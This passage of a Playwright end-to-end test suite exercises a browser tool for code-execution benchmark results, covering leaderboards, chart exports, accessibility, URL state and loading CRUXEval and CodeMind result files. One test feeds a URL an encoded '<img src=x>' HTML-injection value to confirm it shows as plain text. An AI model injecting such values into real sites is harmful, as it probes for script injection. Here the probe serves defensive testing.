    await page.locator('table.predictability').first().scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(out, 'prediction.png') });
    await page.locator('canvas.coefficients').first().scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(out, 'coefficients.png') });
    // Its calibration: a line of bins per model.
    await page.waitForSelector('canvas.reliability[data-drawn="true"]');
    await page.locator('canvas.reliability').scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(out, 'reliability.png') });
    await show('overview');
    const svg = await save('overview-chart ~ figcaption .export-svg');
    expectEqual(svg.name, 'overview.svg', 'SVG file name');
    const texts = await page.evaluate((text) => {
      const document = new DOMParser().parseFromString(text, 'image/svg+xml');
      if (document.querySelector('parsererror')) return null;
      return [...document.querySelectorAll('text')].map((t) => t.textContent.trim());
    }, svg.text);
    if (!texts || !texts.includes('gpt-4-turbo') || !texts.includes('cruxeval')) throw new Error(`overview SVG: ${texts}`);
    await show('constructs');
    const png = await download(() => page.click('canvas[data-figure="constructs-cruxeval-reference"] ~ figcaption .export-png'));
    const bytes = fs.readFileSync(await png.path());
    expectEqual(bytes.subarray(1, 4).toString(), 'PNG', 'PNG signature');
    const radarBox = await page.locator('canvas[data-figure="constructs-cruxeval-reference"]').boundingBox();
    expectEqual([bytes.readUInt32BE(16), bytes.readUInt32BE(20)], [760, Math.round(760 * radarBox.height / radarBox.width)],
      'PNG of the radar at twice its size');
    // The radar's SVG names its lines: one legend entry per model shown.
    const radarSvg = await download(() => page.click('canvas[data-figure="constructs-cruxeval-reference"] ~ figcaption .export-svg'));
    const radarTexts = await page.evaluate((text) => [...new DOMParser().parseFromString(text, 'image/svg+xml')
      .querySelectorAll('text')].map((t) => t.textContent.trim()), fs.readFileSync(await radarSvg.path(), 'utf8'));
    for (const model of ['deepseek-coder-33b-instruct', 'gpt-4-turbo']) {
      expectEqual(radarTexts.filter((t) => t === model).length, 1, `${model} in the radar's legend`);
    }
    await show('exports');
    const buttons = await page.$$eval('#exports button[id$="-tex"]', (b) => b.map((x) => x.id));
    if (buttons.length < 5) throw new Error(`only ${buttons.length} LaTeX exports`);
    for (const id of buttons) {
      const tex = (await save(id)).text;
      // A table or, past 40 rows, a longtable that breaks across pages.
      if (!tex.includes('\\toprule') || !/\\end\{(tabular|longtable)\}/.test(tex)) throw new Error(`${id}: not a booktabs table`);
    }
    if (!(await save('export-constructs-tex')).text.includes('\\begin{longtable}')) throw new Error('the long constructs table is no longtable');
    // A bar's note on missing answers is the JSON report's run: its programs, missing and benchmark_programs.
    const avatar = report.runs.find((r) => r.model === 'gpt-4-turbo' && r.benchmark === 'Avatar');
    expectEqual(avatar.benchmark_programs, avatar.programs + avatar.missing, "the report's programs of Avatar");
    await show('overview');
    const numbers = 'figure:has(#overview-chart) .figure-numbers';
    if (!(await page.$eval(numbers, (d) => d.open))) await page.click(`${numbers} summary`);
    await page.waitForSelector(`${numbers} tr td`);
    const note = `n = ${avatar.programs}, ${avatar.missing} of ${avatar.benchmark_programs} missing`;
    const cells = await page.$$eval(`${numbers} td`, (tds) => tds.map((td) => td.textContent.trim()));
    if (!cells.some((text) => text.endsWith(note))) throw new Error(`no overview bar says "${note}"`);
  });

  await check('the leaderboard ranks by any column, best first, with the ranks and bands of the report', async () => {
    await show('exports');
    const file = await download(() => page.click('#export-report-json'));
    const report = JSON.parse(fs.readFileSync(await file.path(), 'utf8'));
    await show('overview');
    const board = 'table.leaderboard[data-task="output"]';
    const shown = () => page.$$eval(`${board} tbody tr`, (rows) => rows.map((r) => [r.dataset.model, r.cells[0].textContent.trim()]));
    // Told apart by the pairs' tests (the report's `paired`) by default, or by the intervals.
    const ranks = (benchmark, by = 'paired') => report.leaderboard.filter((s) => s.benchmark === benchmark).map((s) => {
      const place = by === 'paired' ? s.paired : s;
      return [s.model, place.rank_best === place.rank_worst ? String(s.rank) : `${s.rank} (${place.rank_best}–${place.rank_worst})`];
    });
    if (!report.leaderboard.every((s) => s.paired)) throw new Error('a standing of a one-task drop without its paired place');
    // By default: pooled over the four benchmarks, best first, as the report ranks them.
    expectEqual(await shown(), ranks('*'), 'the pooled leaderboard, page and JSON report');
    await page.selectOption('#leaderboard-apart', 'intervals');
    expectEqual(await shown(), ranks('*', 'intervals'), 'the pooled leaderboard told apart by intervals');
    await page.selectOption('#leaderboard-apart', 'paired');
    expectEqual((await shown())[0][0], 'gpt-4-turbo', 'the best model first');
    // A header ranks by its column; a second click reverses it.
    await page.click(`${board} th[data-column="Avatar"] button`);
    expectEqual(await shown(), ranks('Avatar'), 'the Avatar leaderboard, page and JSON report');
    await page.click(`${board} th[data-column="Avatar"] button`);
    expectEqual(await page.getAttribute(`${board} th[data-column="Avatar"]`, 'aria-sort'), 'ascending', 'the reversed column');
    expectEqual((await shown()).map((r) => r[0]), ranks('Avatar').map((r) => r[0]).reverse(), 'Avatar, worst first');
    const csv = (await (async () => {
      await show('exports');
      const f = await download(() => page.click('#export-leaderboard-csv'));
      return fs.readFileSync(await f.path(), 'utf8');
    })()).trim().split('\n');
    expectEqual(csv.length - 1, report.leaderboard.length, 'leaderboard rows, CSV and JSON report');
    // The LaTeX a paper prints is the pivot shown, best pooled first (the order a reload shows).
    const tex = await (async () => {
      const f = await download(() => page.click('#export-leaderboard_pivot-tex'));
      return fs.readFileSync(await f.path(), 'utf8');
    })();
    const texModels = tex.split('\\midrule\n')[1].split('\\bottomrule')[0].trim().split('\n').map((line) => line.split(' & ')[1]);
    expectEqual(texModels, ranks('*').map((r) => r[0]), 'the LaTeX leaderboard, pooled order');
    if (!tex.includes('\\begin{table*}')) throw new Error(`five success columns in one column's width: ${tex.slice(0, 300)}`);
    await show('overview');
    await page.click(`${board} th[data-column="*"] button`);
    await page.locator(board).scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(out, 'leaderboard.png') });
    // The property charts: a model each, in the leaderboard's order of the benchmark chosen, on one count axis.
    await show('properties');
    await page.selectOption('#property-picker', 'loc');
    const charted = async (models) => {
      const names = models.map((m) => `property-loc-${m.replace(/[^A-Za-z0-9._-]/g, '-')}`);
      await page.waitForFunction((names) => {
        const charts = [...document.querySelectorAll('#properties canvas.property-chart')];
        return charts.length === names.length && charts.every((c, i) => c.dataset.figure.startsWith(names[i]) && c.dataset.drawn === 'true');
      }, names, { timeout: 10000 }).catch(async () => {
        const found = await page.$$eval('#properties canvas.property-chart', (c) => c.map((e) => e.dataset.figure));
        throw new Error(`property charts ${found}, expected ${names}`);
      });
    };
    await charted(ranks('*').map((r) => r[0]));
    await page.selectOption('#property-benchmark', { label: 'Avatar' });
    await charted(ranks('Avatar').map((r) => r[0]));
    await page.screenshot({ path: path.join(out, 'properties-ranked.png'), fullPage: true });
    await page.selectOption('#property-benchmark', 'all');
  });

  await check('Tab reaches both file choosers from the top of the page, and Enter opens one', async () => {
    await page.evaluate(() => { window.scrollTo(0, 0); document.activeElement?.blur(); });
    const reached = [];
    for (let presses = 0; presses < 60 && reached.length < 2; presses++) {
      await page.keyboard.press('Tab');
      const id = await page.evaluate(() => document.activeElement?.id);
      if (['file-input', 'folder-input'].includes(id) && !reached.includes(id)) reached.push(id);
    }
    expectEqual(reached, ['file-input', 'folder-input'], 'file choosers reached with Tab');
    const outline = await page.$eval('#folder-input', (input) => getComputedStyle(input.closest('label')).outlineStyle);
    expectEqual(outline, 'solid', "the focused chooser's button outlined");
    const [chooser] = await Promise.all([page.waitForEvent('filechooser', { timeout: 5000 }), page.keyboard.press('Enter')]);
    expectEqual(await chooser.element().getAttribute('id'), 'folder-input', 'the chooser Enter opened');
  });

  await check('a construct cell and a program open the drill-down, by keyboard too, with a visible focus', async () => {
    await show('constructs');
    // By keyboard: tab onto a button (back and forth, as a keyboard user arrives), see its outline, press Enter.
    const press = async (selector) => {
      await page.focus(selector);
      await page.keyboard.press('Shift+Tab');
      await page.keyboard.press('Tab');
      const focused = await page.$eval(selector, (e) => e === document.activeElement);
      if (!focused) throw new Error(`${selector}: not reached by Tab`);
      const outline = await page.$eval(selector, (e) => getComputedStyle(e).outlineStyle);
      if (outline === 'none') throw new Error(`${selector}: no visible focus`);
      await page.keyboard.press('Enter');
    };
    // A chart's numbers open what its marks open: the radar's spoke "NL", here.
    const radar = 'figure:has(canvas[data-figure="constructs-cruxeval-reference"]) .figure-numbers';
    await page.click(`${radar} summary`);
    await press(`${radar} tbody tr:first-child button.link`);
    await page.waitForFunction(() => (document.querySelector('#drilldown h2')?.textContent ?? '').includes('nested loop'));
    expectEqual(await page.$$eval('#drilldown-table tbody tr', (r) => r.length), 17, 'cruxeval programs with nested loops, from the numbers');
    await show('constructs');
    await press('#construct-table tr[data-model="gpt-4-turbo"][data-benchmark="cruxeval"] td[data-construct="nested"] button');
    await page.waitForFunction(() => (document.querySelector('#drilldown h2')?.textContent ?? '').includes('gpt-4-turbo'));
    expectEqual(await page.$$eval('#drilldown-table tbody tr', (r) => r.length), 17, 'programs with nested loops');
    await press('#drilldown-table tbody tr:first-child button.link');
    await page.waitForSelector('#program-view .prediction');
    const expected = (await page.textContent('#program-expected')).trim();
    if (!expected) throw new Error('the program view shows no expected output');
    expectEqual(await page.$$eval('#program-view .prediction', (p) => p.length), 2, 'predictions of the program');
    await page.screenshot({ path: path.join(out, 'drilldown.png'), fullPage: true });
  });

  // Where the page was scrolled when the spoke was clicked: Back returns there.
  let scrolledAtSpoke = null;
  await check('a radar spoke opens the programs with that construct', async () => {
    await show('constructs');
    const radar = await page.$('canvas.radar[data-figure="constructs-cruxeval-reference"]');
    await radar.scrollIntoViewIfNeeded();
    const box = await radar.boundingBox();
    // The first spoke (NL) points straight up from the centre, which sits 175 of the figure's 380
    // pixels of width above its bottom (radar.rs: a square under the title and legend); the click
    // lands halfway up the spoke (radius 112).
    const scale = box.width / 380;
    scrolledAtSpoke = await page.evaluate(() => window.scrollY);
    await page.mouse.click(box.x + box.width / 2, box.y + box.height - (175 + 56) * scale);
    await page.waitForFunction(() => (document.querySelector('#drilldown h2')?.textContent ?? '').includes('nested loop')
      && (document.querySelector('#drilldown h2')?.textContent ?? '').includes('cruxeval'));
    expectEqual(await page.$$eval('#drilldown-table tbody tr', (r) => r.length), 17, 'cruxeval programs with nested loops');
  });

  await check('the view is in the link: back and forward move between views and scroll positions, a reload opens the same view over the kept drop', async () => {
    // The radar's spoke opened a drill-down: the URL's fragment says so (names, no data).
    const hash = await linkWith(['section=programs', 'flavor=reference', 'drill.benchmark=cruxeval', 'drill.construct=reference%3Anested']);
    // Back: the constructs, with the drill-down opened before the spoke (gpt-4-turbo's cell).
    const drilled = () => page.textContent('#drilldown h2');
    await page.goBack();
    await page.waitForSelector('#nav-constructs[aria-current="page"]');
    await page.waitForFunction(() => (document.querySelector('#drilldown h2')?.textContent ?? '').includes('gpt-4-turbo'));
    // ... scrolled where it was when the spoke was clicked (not to the drill-down, nor the top).
    await page.waitForFunction((y) => Math.abs(window.scrollY - y) <= 3, scrolledAtSpoke, { timeout: 3000 })
      .catch(async () => { throw new Error(`back: scrolled to ${await page.evaluate(() => window.scrollY)}, not ${scrolledAtSpoke}`); });
    await page.goForward();
    await page.waitForSelector('#nav-programs[aria-current="page"]');
    await page.waitForFunction(() => !(document.querySelector('#drilldown h2')?.textContent ?? 'gpt-4-turbo').includes('gpt-4-turbo')
      && document.querySelectorAll('#drilldown-table tbody tr').length === 17);
    if (!(await drilled()).includes('nested loop')) throw new Error(`forward: ${await drilled()}`);
    // The link opened again (a reload): the drop kept in this browser comes back, in the same
    // view. What the link has that is no view setting is told, as text.
    // (A new document: a link differing only in its fragment would not reload the page.)
    await page.goto('about:blank');
    await page.goto(`${origin}${BASE}${hash}&bogus=%3Cimg%20src%3Dx%3E`);
    finishedRuns = 0;
    await page.waitForSelector('#link-notes');
    if (!(await page.textContent('#link-notes')).includes('bogus')) throw new Error('the unknown setting is not told');
    if (await page.$('#link-notes img')) throw new Error("a link's text became HTML");
    await waitDone();
    await page.waitForSelector('#kept-notice #forget-data');
    expectEqual(run(await overview(), 'gpt-4-turbo', 'cruxeval'), [659, 800], 'the kept drop, analysed again');
    await page.waitForSelector('#nav-programs[aria-current="page"]');
    await page.waitForFunction(() => document.querySelectorAll('#drilldown-table tbody tr').length === 17);
    if (!(await page.isChecked('#reference-definitions'))) throw new Error('the reference definitions are not restored');
    await page.screenshot({ path: path.join(out, 'linked-view.png') });
  });

  await check('"Copy link" copies the view shown, also when clicked at once after changing it', async () => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
    // Both clicks in one task: the view's history entry is written in a task of its own after it.
    await page.evaluate(() => {
      document.querySelector('#nav-types').click();
      document.querySelector('#copy-link').click();
    });
    await page.waitForFunction(() => document.querySelector('#copy-link').textContent !== 'Copy link');
    expectEqual(await page.textContent('#copy-link'), 'Link copied', 'the button');
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expectEqual(copied, page.url(), 'the link copied');
    if (!new URL(copied).hash.includes('section=types')) throw new Error(`the link copied is not the types view: ${copied}`);
  });

  await check('the program table renders the rows in view, filters, sorts and opens a program', async () => {
    await show('programs');
    // Every program is in the table; only those in view are in the page, down to the last.
    const total = Number(await page.getAttribute('#program-table', 'aria-rowcount')) - 1;
    if (total < 1000) throw new Error(`${total} programs in the table`);
    const rendered = await page.$$eval('#program-table tbody tr:not(.spacer)', (r) => r.length);
    if (rendered > 200) throw new Error(`${rendered} of ${total} program rows rendered`);
    await page.$eval('#program-table-panel .windowed', (box) => { box.scrollTop = box.scrollHeight; });
    await page.waitForFunction(() => !document.querySelector('#program-table tbody tr:last-child.spacer')
      && document.querySelector('#program-table tbody tr:first-child.spacer'));
    await page.$eval('#program-table-panel .windowed', (box) => { box.scrollTop = 0; });
    await page.fill('#program-filter', 'recursion');
    await page.waitForFunction(() => document.querySelectorAll('#program-table tbody tr').length > 0
      && [...document.querySelectorAll('#program-table tbody td.constructs')].every((td) => td.textContent.includes('recursion')));
    await page.click('#program-table tbody tr:first-child');
    await page.waitForFunction(() => (document.querySelector('#program-view .explain')?.textContent ?? '').includes('recursion'));
    await page.click('#program-view .chip[data-construct="if"]');
    const focused = await page.$$eval('#program-code .line.focused', (lines) => lines.map((l) => l.textContent));
    if (focused.length === 0 || !focused.every((line) => /\b(if|elif)\b/.test(line))) {
      throw new Error(`the if chip highlights ${JSON.stringify(focused)}`);
    }
    await page.fill('#program-filter', '');
    // Every program leaves as CSV, with the properties the table shows.
    const exported = await download(() => page.click('#export-programs-csv'));
    const lines = fs.readFileSync(await exported.path(), 'utf8').trim().split('\n');
    expectEqual(lines.length - 1, total, 'programs exported');
    if (!lines[0].startsWith('benchmark,id,language,reference_cc,')) throw new Error(`programs.csv header: ${lines[0]}`);
  });

  await check('every section and a program view, light and dark: no serious or critical accessibility violation (axe-core)', async () => {
    await page.evaluate(fs.readFileSync(path.join(root, 'tools/node/node_modules/axe-core/axe.min.js'), 'utf8'));
    const problems = [];
    for (const scheme of ['light', 'dark']) {
      await page.emulateMedia({ colorScheme: scheme });
      // Colours checked once the theme's transitions have ended (mid-way, light meets dark).
      await page.waitForFunction(() => document.getAnimations().every((a) => a.playState !== 'running'));
      for (const section of ['overview', 'constructs', 'properties', 'types', 'models', 'programs', 'sources', 'exports']) {
        await show(section);
        if (section === 'programs') {
          // A program view with wrong answers: their diffs, the model's claims, the code.
          await page.fill('#program-filter', 'sample_150');
          await page.click('#program-table tbody tr[data-program="sample_150"]');
          await page.waitForSelector('#program-view[data-program="sample_150"] pre.diff');
          await page.fill('#program-filter', '');
        }
        const violations = await page.evaluate(async () => (await axe.run(document, { resultTypes: ['violations'] }))
          .violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')
          .map((v) => `${v.id} on ${v.nodes.length} element(s), e.g. ${v.nodes[0].target.join(' ')}`));
        problems.push(...violations.map((v) => `${scheme} ${section}: ${v}`));
        if (section === 'overview') {
          // The chart is drawn in the page's ink: its ground dark on the dark page, white on the light one.
          await page.waitForFunction((dark) => {
            const chart = document.querySelector('#overview-chart[data-drawn="true"]');
            const [r, g, b] = chart?.getContext('2d').getImageData(2, 2, 1, 1).data ?? [];
            return dark ? r + g + b < 150 : r + g + b > 700;
          }, scheme === 'dark', { timeout: 5000 }).catch(() => problems.push(`${scheme} overview: the chart's ground is not ${scheme}`));
        }
        await page.screenshot({ path: path.join(out, `section-${section}-${scheme}.png`) });
      }
    }
    await page.emulateMedia({ colorScheme: 'light' });
    if (problems.length) throw new Error(`\n${problems.join('\n')}`);
  });

  await check('on a phone, 390 px wide: no section or program view scrolls the page sideways, the header folds', async () => {
    await page.setViewportSize({ width: 390, height: 844 });
    const wide = [];
    try {
      for (const section of ['overview', 'constructs', 'properties', 'types', 'models', 'programs', 'sources', 'exports']) {
        await show(section);
        wide.push(...await sideways(section));
      }
      // The header folds to a line; the sections' buttons take one row.
      const nav = await page.$eval('nav.sections', (n) => n.getBoundingClientRect().height);
      if (nav > 60) wide.push(`the sections' navigation is ${Math.round(nav)} px high`);
      const header = await page.$eval('header.masthead', (h) => h.getBoundingClientRect().height);
      if (header > 120) wide.push(`the header is ${Math.round(header)} px high`);
      // A program whose name has no break (a title must wrap), its code, trace and answers.
      await show('programs');
      await page.fill('#program-filter', 'ClassEval_61@MusicPlayer.add_song');
      await page.click('#program-table tbody tr[data-program="ClassEval_61@MusicPlayer.add_song"]');
      await page.waitForSelector('#program-view[data-program="ClassEval_61@MusicPlayer.add_song"]');
      wide.push(...await sideways('program view'));
      await page.fill('#program-filter', '');
    } finally {
      await page.setViewportSize({ width: 1280, height: 1000 });
    }
    if (wide.length) throw new Error(`\n${wide.join('\n')}`);
  });

  await check('a bar of the overview chart opens its programs', async () => {
    await show('overview');
    await page.$eval('#overview-chart', (c) => c.scrollIntoView());
    const box = await page.$eval('#overview-chart', (c) => { const r = c.getBoundingClientRect(); return { x: r.x, y: r.y, w: r.width, h: r.height }; });
    // The first group's first bar sits just right of the y axis, low in the plot (above the
    // groups' names and counts, which take the canvas's last fifth).
    let opened = false;
    for (let x = box.x + box.w * 0.08; x < box.x + box.w * 0.3 && !opened; x += 6) {
      await page.mouse.click(x, box.y + box.h * 0.75);
      opened = (await page.$('#drilldown h2')) !== null
        && (await page.textContent('#drilldown h2')).includes('Avatar');
    }
    if (!opened) throw new Error('no click on the first bar group opened a drill-down');
  });

  await check('the CodeMind folder, picked as a folder, and the judge switch', async () => {
    await page.setInputFiles('#folder-input', path.join(fixtures, 'codemind'));
    await waitDone();
    // A switch redraws the section in view (the others when opened): look at the overview.
    await show('overview');
    await page.selectOption('#judge', 'lenient');
    await page.waitForFunction(() => [...document.querySelectorAll('#overview-table tbody tr')]
      .some((r) => r.dataset.model === 'GPT_4' && r.querySelector('td:nth-child(4)').textContent.trim() === '644'));
    const rows = await overview();
    expectEqual(run(rows, 'GPT_4', 'cruxeval'), [644, 800], 'GPT_4 on cruxeval (lenient)');
    expectEqual(run(rows, 'ChatGPT_4', 'Avatar-Java'), [44, 85], 'ChatGPT_4 on Avatar-Java (lenient)');
    await page.selectOption('#judge', 'reference');
    // DER/SR: the programs the models wrote, run in Python on their tests.
    await page.selectOption('#task', 'code');
    await page.waitForFunction(() => document.querySelector('#overview-table tbody tr td:nth-child(3)')?.textContent.trim() === 'code');
    const code = await overview();
    // 152: HumanEval_39 imports sympy, and programs see the standard library only (as the CLI's).
    expectEqual(run(code, 'GPT_4', "HumanEval (GPT_4's code)"), [152, 162], 'GPT_4 DER code passing its test');
    expectEqual(run(code, 'CodeLlama', "HumanEvalNoTest (CodeLlama's code)"), [94, 162], 'CodeLlama SR code passing its test');
    // Views of one task draw its models and benchmarks only (ChatGPT_4 and the IER benchmarks are another task's).
    await show('properties');
    const charts = await page.$$eval('#properties canvas.property-chart', (c) => c.length);
    expectEqual(charts, 2, 'property charts of the code task (GPT_4, CodeLlama)');
    await show('constructs');
    const options = await page.$$eval('#construct-bars-benchmark option', (o) => o.map((x) => x.textContent));
    expectEqual(options, ["HumanEval (GPT_4's code)", "HumanEvalNoTest (CodeLlama's code)"], 'construct bar benchmarks of the code task');
    await page.selectOption('#task', 'output');
    // A raw response (`<model>_cot.txt`) is sent to the worker after the analysis began, and read
    // when its program is shown.
    await show('programs');
    await page.fill('#program-filter', 'sample_0');
    await page.click('#program-table tbody tr[data-program="sample_0"]');
    await page.waitForSelector('.prediction[data-model="GPT_4"] pre.response', { state: 'attached' });
    const onDisk = fs.readFileSync(path.join(fixtures, 'codemind/Results/IER/CruxEval/GPT_4/sample_0/chatgpt_4_cot.txt'), 'utf8');
    expectEqual(await page.textContent('.prediction[data-model="GPT_4"] pre.response'), onDisk, 'a picked response, read when shown');
  });

  await check('a dropped .zip of result folders is read', async () => {
    const zip = path.join(os.tmpdir(), `exerscope-e2e-${process.pid}.zip`);
    execFileSync('python3', ['-c', `
import os, sys, zipfile
root, out = sys.argv[1], sys.argv[2]
with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as z:
    for folder in ('dataset/cruxeval', 'Experiment_Results/ER/gpt-4-turbo/cruxeval',
                   'Experiment_Results/ER/deepseek-coder-33b-instruct/cruxeval'):
        for base, _, names in os.walk(os.path.join(root, folder)):
            for name in names:
                full = os.path.join(base, name)
                z.write(full, os.path.relpath(full, root))
`, path.join(fixtures, 'exerscope'), zip]);
    await dropFiles([zip]);
    await waitDone();
    fs.rmSync(zip);
    const rows = await overview();
    expectEqual(rows.length, 2, 'runs in the zip');
    expectEqual(await page.$('#zip-hint'), null, 'no hint to zip a zip');
    expectEqual(run(rows, 'gpt-4-turbo', 'cruxeval'), [659, 800], 'gpt-4-turbo on cruxeval');
    expectEqual(run(rows, 'deepseek-coder-33b-instruct', 'cruxeval'), [471, 800], 'deepseek on cruxeval');
    // A raw response stays packed in the zip until its program is shown.
    await show('programs');
    await page.fill('#program-filter', 'sample_0');
    await page.click('#program-table tbody tr[data-program="sample_0"]');
    const response = '.prediction[data-model="deepseek-coder-33b-instruct"] pre.response';
    await page.waitForSelector(response, { state: 'attached' });
    const onDisk = fs.readFileSync(path.join(fixtures,
      'exerscope/Experiment_Results/ER/deepseek-coder-33b-instruct/cruxeval/sample_0/response.txt'), 'utf8');
    expectEqual(await page.textContent(response), onDisk, 'a zipped response, unpacked when shown');
  });

  await check('CRUXEval generations, scores and benchmark, dragged together: pass@1 per task', async () => {
    const cruxeval = path.join(fixtures, 'cruxeval');
    await dragFromDisk([path.join(cruxeval, 'samples'), path.join(cruxeval, 'data', 'cruxeval.jsonl')]);
    await waitDone();
    const stored = (task) => JSON.parse(fs.readFileSync(path.join(cruxeval, 'samples', 'evaluation_results',
      `sample_scored_codellama-7b_temp0.2_${task}.json`))).pass_at_1 / 100;
    await show('overview');
    for (const task of ['output', 'input']) {
      await page.selectOption('#task', task);
      await page.waitForFunction((t) => document.querySelector('#overview-table tbody tr td:nth-child(3)')
        ?.textContent.trim() === t, task);
      const cells = await page.$$eval('#overview-table tbody tr', (rows) => rows.map((row) =>
        [...row.querySelectorAll('td')].map((td) => td.getAttribute('data-pass-at-1') ?? td.textContent.trim())));
      expectEqual(cells.length, 1, `${task} runs`);
      const [model, benchmark, , , , missing, total, programs, n, passAt1] = cells[0];
      expectEqual([model, benchmark, missing, total, programs, n], ['codellama-7b (T=0.2)', 'CRUXEval', '0', '8000', '800', '10'], `${task} run`);
      if (Math.abs(Number(passAt1) - stored(task)) > 1e-9) throw new Error(`${task} pass@1 ${passAt1}, file says ${stored(task)}`);
    }
    await page.screenshot({ path: path.join(out, 'cruxeval.png'), fullPage: false });
    // One model: the comparison says so, instead of an empty section.
    await show('models');
    const alone = await page.waitForSelector('#comparison-alone');
    if (!(await alone.textContent()).includes('Only codellama-7b (T=0.2)\'s predictions are loaded')) {
      throw new Error(`one model's comparison says: ${await alone.textContent()}`);
    }
    if (await page.$('#pair-matrix')) throw new Error('a matrix for one model');
    await page.screenshot({ path: path.join(out, 'one-model.png'), fullPage: false });
    await show('overview');
    await page.click('#overview-table tbody tr');
    await page.waitForSelector('#drilldown-table tbody tr');
    await page.click('#drilldown-table tbody tr:first-child');
    await page.waitForSelector('#program-view .prediction');
    const cards = await page.$$eval('#program-view .prediction', (p) => p.map((card) => card.textContent));
    expectEqual(cards.length, 20, 'every sample of both tasks in the program view');
    if (!cards.some((c) => c.includes('input · sample 10') && c.includes('verdict stored in the results file'))) {
      throw new Error(`no stored input sample 10 among ${cards.slice(0, 2)}`);
    }
    await show('sources');
    await page.click('#sources summary');
    const sources = await page.$$eval('#sources-table tbody tr', (rows) => rows.map((row) =>
      [...row.querySelectorAll('td')].map((td) => (td.querySelector('select')?.selectedOptions[0] ?? td).textContent.trim())));
    const scored = sources.find((r) => r[0].endsWith('sample_scored_codellama-7b_temp0.2_input.json'));
    expectEqual(scored?.slice(1), ['cruxeval', 'codellama-7b (T=0.2)', 'CRUXEval', 'input', '0', '8000'], 'the scored input file, as read');
    expectEqual(sources.find((r) => r[0].endsWith('cruxeval.jsonl'))?.slice(5), ['800', '0'], 'the benchmark file, as read');
    await page.screenshot({ path: path.join(out, 'sources.png'), fullPage: false });
    const inputRow = '#sources-table tr[data-source$="sample_scored_codellama-7b_temp0.2_input.json"] select';
    await page.selectOption(inputRow, 'csv');
    await waitDone();
    // Not CSV, so not used: the run's unscored generations.json stands in for it.
    if (!(await page.textContent('#messages')).includes('not a csv file')) throw new Error('the re-read file is not named');
    const generations = await page.$$eval('#sources-table tbody tr', (rows) => rows.map((r) => r.dataset.source));
    if (!generations.some((s) => s.endsWith('sample_codellama-7b_temp0.2_input/generations.json'))) {
      throw new Error(`the input generations are not read in its place: ${generations}`);
    }
    await show('sources');
    await page.evaluate(() => { document.querySelector('#sources').open = true; });
    await page.selectOption('#format', 'codemind');
    await waitDone();
    expectEqual((await overview()).length, 0, 'runs when read as CodeMind');
    await page.selectOption('#format', '');
    await waitDone();
    expectEqual((await overview()).length, 1, 'runs when detected again');
  });

  await check('eval-arena rows with CRUXEval: pass@1 is the mean of pass1, and the all-pairs matrix opens a pair side by side', async () => {
    const arena = path.join(root, 'tests', 'formats', 'eval_arena_cruxeval.jsonl');
    await dragFromDisk([arena, path.join(fixtures, 'cruxeval', 'data', 'cruxeval.jsonl')]);
    await waitDone();
    const shares = {};
    for (const line of fs.readFileSync(arena, 'utf8').trim().split('\n')) {
      const row = JSON.parse(line);
      const key = `${row.model} ${row.benchmark_id.replace('CRUXEval-', '')}`;
      (shares[key] ??= []).push(row.pass1);
    }
    await show('overview');
    for (const task of ['output', 'input']) {
      await page.selectOption('#task', task);
      await page.waitForFunction((t) => document.querySelector('#overview-table tbody tr td:nth-child(3)')
        ?.textContent.trim() === t, task);
      const rows = await page.$$eval('#overview-table tbody tr', (trs) => trs.map((tr) =>
        [...tr.querySelectorAll('td')].map((td) => td.getAttribute('data-pass-at-1') ?? td.textContent.trim())));
      expectEqual(rows.length, 3, `${task}: three models`);
      for (const row of rows) {
        const expected = shares[`${row[0]} ${task}`];
        const mean = expected.reduce((a, b) => a + b, 0) / expected.length;
        if (Math.abs(Number(row[9]) - mean) > 1e-9) throw new Error(`${row[0]} ${task}: pass@1 ${row[9]}, mean of pass1 ${mean}`);
        expectEqual(row[1], 'CRUXEval', 'joined with the benchmark');
      }
    }
    await page.selectOption('#task', 'output');
    await show('models');
    await page.waitForSelector('#pair-matrix[data-drawn="true"]');
    const rows = await page.$$eval('#comparison-table tbody tr[data-benchmark]', (trs) => trs.map((tr) => tr.dataset.benchmark));
    expectEqual(rows, ['*', '*', '*'], 'three pairs, all benchmarks (the benchmark alone is in the scope menu)');
    // A benchmark chosen: the worker sends the pairs there only, and the link keeps it.
    const pairsOn = (benchmarks) => page.waitForFunction((expected) => [...document.querySelectorAll(
      '#comparison-table tbody tr[data-benchmark]')].map((tr) => tr.dataset.benchmark).join() === expected, benchmarks);
    await page.selectOption('#comparison-scope', 'CRUXEval');
    await pairsOn('CRUXEval,CRUXEval,CRUXEval');
    await linkWith(['models.benchmark=CRUXEval']);
    await page.waitForSelector('#pair-matrix[data-drawn="true"]');
    await page.selectOption('#comparison-scope', '*');
    await pairsOn('*,*,*');
    await page.waitForSelector('#pair-matrix[data-drawn="true"]');
    await page.screenshot({ path: path.join(out, 'pair-matrix.png'), fullPage: false });
    await page.click('#comparison .figure-numbers summary');
    const cell = page.locator('#comparison .figure-numbers button.link').first();
    const title = await cell.textContent();
    if (!/ − .*pts \(95% CI/.test(title)) throw new Error(`a matrix cell says ${title}`);
    await cell.click();
    // The cell shows its row and column models side by side.
    await page.waitForSelector('#pair-summary');
    const [a, b] = [await page.getAttribute('#pair-summary', 'data-a'), await page.getAttribute('#pair-summary', 'data-b')];
    if (!title.startsWith(`${a} − ${b}`)) throw new Error(`the cell ${title} opened ${a} and ${b}`);
    await page.click('#pair-counts tbody tr:first-child td:nth-child(3) button');
    await page.waitForSelector('#drilldown-table tbody tr');
    if (!(await page.isVisible('#drilldown-table'))) throw new Error('the pair\'s programs are not shown');
  });

  await check('CRUXEval input generations without scores: every guessed input is run in Python', async () => {
    const cruxeval = path.join(fixtures, 'cruxeval');
    await dragFromDisk([path.join(cruxeval, 'samples', 'model_generations', 'sample_codellama-7b_temp0.2_input'),
      path.join(cruxeval, 'data', 'cruxeval.jsonl')]);
    await waitDone();
    const stored = JSON.parse(fs.readFileSync(path.join(cruxeval, 'samples', 'evaluation_results',
      'sample_scored_codellama-7b_temp0.2_input.json'))).pass_at_1 / 100;
    const passAt1 = await page.getAttribute('#overview-table tbody tr td[data-pass-at-1]', 'data-pass-at-1');
    if (Math.abs(Number(passAt1) - stored) > 1e-9) throw new Error(`pass@1 ${passAt1}, the scored file says ${stored}`);
    await show('overview');
    await page.click('#overview-table tbody tr');
